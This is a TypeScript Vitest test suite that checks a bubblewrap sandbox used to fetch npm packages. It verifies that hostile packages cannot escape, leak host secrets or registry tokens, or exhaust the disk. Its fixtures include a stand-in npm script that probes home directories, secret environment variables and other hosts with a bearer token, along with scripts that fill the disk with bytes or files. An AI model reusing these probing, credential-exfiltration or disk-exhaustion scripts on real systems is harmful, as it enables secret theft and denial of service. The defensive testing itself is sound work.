import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createBwrapRunner } from '../../../src/sandbox/bwrap/bwrap.ts';
import { createPackages, type Packages, readPackagePin } from '../../../src/sandbox/packages/packages.ts';
import type { SandboxRunner } from '../../../src/sandbox/runner.ts';
import { createEscapingPackage, createRefusedPackages, type Published } from '../../fixtures/hostile/packages.ts';
import { hasBwrap } from '../../needs/bwrap.ts';
import { proof } from '../../proof.ts';
import { createHarness, type Harness } from '../runner-harness.ts';
import { startRegistry, type TinyRegistry } from './tiny-registry.ts';

const secret = 'a secret of the host';
const token = 'token-of-the-user';
const elsewhere = 'http://127.0.0.1:9/x.tgz';

describe.skipIf(!hasBwrap())('a hostile package', () => {
  let harness: Harness;
  let registry: TinyRegistry;
  let sandbox: SandboxRunner;
  let folder: string;
  let home: string;

  beforeAll(async () => {
    harness = await createHarness();
    registry = await startRegistry((request) => request.headers.authorization === `Bearer ${token}`);
    sandbox = createBwrapRunner({
      ...{ reaper: harness.reaper, tmpRoot: harness.root, timing: { closeMs: 10, termMs: 1000 } },
    });
    folder = join(harness.tmpParent, 'packages');
    home = join(realpathSync(harness.tmpParent), 'home');
    mkdirSync(home);
    writeFileSync(join(home, '.env'), secret);
    writeFileSync(join(home, 'package.json'), '{"name":"loot","version":"1.0.0"}');
    writeFileSync(
      join(home, '.npmrc'),
      `registry=${registry.url}\n//${new URL(registry.url).host}/:_authToken=\${TOKEN}\n//other.invalid/:_authToken=foreign\nfetch-retries=0\n`,
    );
  });

  afterAll(async () => {
    registry.stop();
    await harness.stop();
  });

  function packages(env: NodeJS.ProcessEnv = {}): Packages {
    const all = { PATH: process.env['PATH'], HOME: home, TOKEN: token, SECRET_OF_THE_HOST: secret, ...env };
    const bounds = { bytes: 8 << 20, files: 2000 };
    return createPackages({ folder, sandbox: async () => sandbox, tmpRoot: harness.root, env: () => all, bounds });
  }

  function publish(published: readonly Published[]): string {
    for (const { manifest, files, dist } of published) registry.publish(manifest, files, dist);
    return published.at(-1)?.manifest.name as string;
  }

  /** Everything that is kept of packages, and everything that is left of a fetch. */
  function kept(): string {
    const folders = [folder, harness.root].filter((each) => existsSync(each));
    const files = folders.flatMap((each) =>
      readdirSync(each, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1')),
    );
    return files.join('\n');
  }

  const refused = () =>
    createRefusedPackages({ secret: home, archive: join(home, 'x.tgz'), elsewhere, registry: registry.url });

  test('S1: is refused with the name of what does not come from the registry, and nothing of it is kept', async () => {
    const short = ['by-guess', 'wrapped-settings'];
    const chosen = refused().filter(({ published }) => proof || short.includes(published.at(-1)?.manifest.name ?? ''));
    expect(chosen.length).toBeGreaterThanOrEqual(short.length);
    for (const { tries, published, offender } of chosen) {
      const name = publish(published);
      const failure = await packages()
        .ready('npx', ['-y', name])
        .catch((error: unknown) => error);
      expect.soft(failure, tries).toMatchObject({
        code: 'UPSTREAM_FAILED',
        message: expect.stringContaining(offender),
        hint: expect.stringContaining('install it yourself'),
      });
      expect.soft(readPackagePin(folder, 'npx', ['-y', name]), tries).toBeUndefined();
    }
    expect(kept()).not.toContain(secret);
    expect(kept()).not.toContain(token);
    // The credential of the registry reached the registry.
    expect(new Set(registry.credentials)).toEqual(new Set([`Bearer ${token}`]));
  });

  test('S1: cannot leave its folder by links, paths or programs, and nothing of it is run', async () => {
    const mark = join(harness.tmpParent, 'mark');
    const name = publish([createEscapingPackage({ secret: home }, mark)]);
    // As it is where npx has started Ambit in a project with a file of its own.
    const project = join(harness.tmpParent, 'project');
    const programs = join(project, 'node_modules/.bin');
    mkdirSync(programs, { recursive: true });
    // npm has no such variable when it reads the file, and sets it for Ambit.
    writeFileSync(join(project, '.npmrc'), `reg\${npm_command?}istry=http://127.0.0.1:9\n`);
    for (const each of ['npm', 'node']) writeFileSync(join(programs, each), '#!/bin/sh\nexit 1\n', { mode: 0o755 });
    const { command } = await packages({
      npm_config_local_prefix: project,
      npm_command: 'exec',
      npm_config_registry: 'http://127.0.0.1:9',
      PATH: `${programs}:${process.env['PATH']}`,
    }).ready('npx', ['-y', name]);
    const content = command.replace(/\/node_modules\/.*$/, '');
    expect(command).toBe(join(content, 'node_modules/escaping/run.js'));
    const links = readdirSync(content, { recursive: true, withFileTypes: true }).filter((entry) =>
      entry.isSymbolicLink(),
    );
    for (const { name, parentPath } of links) {
      expect(realpathSync(join(parentPath, name)).startsWith(`${realpathSync(content)}/`), name).toBe(true);
    }
    expect(readdirSync(harness.tmpParent).filter((each) => each.startsWith('mark'))).toEqual([]);
    expect(readFileSync(join(content, 'package.json'), 'utf8')).toContain('escaping');
    expect(kept()).not.toContain(secret);
    expect(kept()).not.toContain(token);
    await expect(packages().ready('npx', ['-p', name, 'outside'])).rejects.toThrow(/does not have a program "outside"/);
    await expect(packages().ready('npx', ['-p', name, 'linked-out'])).rejects.toThrow(/does not have|ENOENT/);
  });

  test('S1: finds nothing of the host even where it takes over the program that fetches', async () => {
    const bin = join(harness.tmpParent, 'bin');
    mkdirSync(bin);
    const program = join(bin, 'npm');
    const other = await startRegistry();
    writeFileSync(
      program,
      `#!${process.execPath}\n(${lookAround})(${JSON.stringify([home, other.url, registry.url])})`,
    );
    chmodSync(program, 0o755);
    const failure = await packages({ PATH: `${bin}:${process.env['PATH']}` })
      .ready('npx', ['-y', 'any'])
      .catch((error: Error) => error);
    other.stop();
    const seen = JSON.parse(/seen: (.*)/.exec(String((failure as Error).cause))?.[1] ?? '{}');
    expect(seen).toEqual({
      home: 'ENOENT',
      above: ['bin'],
      variables: [],
      elsewhere: 403,
      registry: 404,
      foreign: false,
      writable: ['/run/fetch/cache', '/tmp'],
    });
    expect(other.asked).toEqual([]);
  });

  test('S1: is cut off while it is fetched once it fills the disk, by bytes or by files', async () => {
    const bin = join(harness.tmpParent, 'filling');
    mkdirSync(bin);
    const env = { PATH: `${bin}:${process.env['PATH']}` };
    const fetching = async (name: string, script: string) => {
      writeFileSync(join(bin, 'npm'), `#!${process.execPath}\n(${script})(require('node:fs'))`, { mode: 0o755 });
      const failure = await packages(env)
        .ready('npx', ['-y', name])
        .catch((error: unknown) => error);
      expect(readPackagePin(folder, 'npx', ['-y', name])).toBeUndefined();
      return failure;
    };
    const [byBytes, byFiles] = [await fetching('big', fillBytes), await fetching('many', fillFiles)];
    for (const failure of [byBytes, byFiles]) {
      expect(failure).toMatchObject({
        code: 'UPSTREAM_FAILED',
        message: expect.stringMatching(/could not be downloaded: it contains more than 8 MiB or 2000 files\./),
        hint: expect.stringContaining('install it yourself'),
      });
    }
    const left = readdirSync(folder, { recursive: true, encoding: 'utf8' });
    expect(left.filter((path) => /filled/.test(path))).toEqual([]);
    expect(
      readdirSync(harness.root, { recursive: true, encoding: 'utf8' }).filter((path) => /filled/.test(path)),
    ).toEqual([]);
  });
});

/** These run in the sandbox in place of npm, and stay for as long as they may. */
const fillBytes = `({ writeFileSync }) => {
  for (let at = 0; at < 64; at++) writeFileSync('/run/fetch/cache/filled-' + at, Buffer.alloc(1 << 20, at));
  setInterval(() => {}, 1000);
}`;
const fillFiles = `({ mkdirSync, writeFileSync }) => {
  mkdirSync('filled');
  for (let at = 0; at < 6000; at++) writeFileSync('filled/' + at, '');
  setInterval(() => {}, 1000);
}`;

/** Runs in the sandbox in place of npm. */
const lookAround = `async ([home, elsewhere, registry]) => {
  const { readdirSync, readFileSync, writeFileSync } = require('node:fs');
  const { get } = require('node:http');
  const attempt = (what) => { try { return what(); } catch (error) { return error.code; } };
  const reach = (url) => new Promise((done) => get(
    { host: '127.0.0.1', port: 3128, path: url + '/x', headers: { Authorization: 'Bearer ${token}' } },
    (answer) => done(answer.statusCode)).on('error', (error) => done(error.code)));
  const settings = readFileSync(process.env.npm_config_userconfig, 'utf8');
  const seen = {
    home: attempt(() => readdirSync(home)),
    above: readdirSync(require('node:path').dirname(home)).filter((name) => name !== 'packages'),
    variables: Object.keys(process.env).filter((name) => /SECRET|TOKEN/.test(name)),
    elsewhere: await reach(elsewhere),
    registry: await reach(registry),
    foreign: settings.includes('foreign'),
    writable: ['/', '/etc', '/usr', '/run/fetch/settings', '/run/fetch/cache', '/tmp'].filter(
      (folder) => attempt(() => writeFileSync(folder + '/written', '')) === undefined),
  };
  console.error('seen: ' + JSON.stringify(seen));
  process.exit(1);
}`;
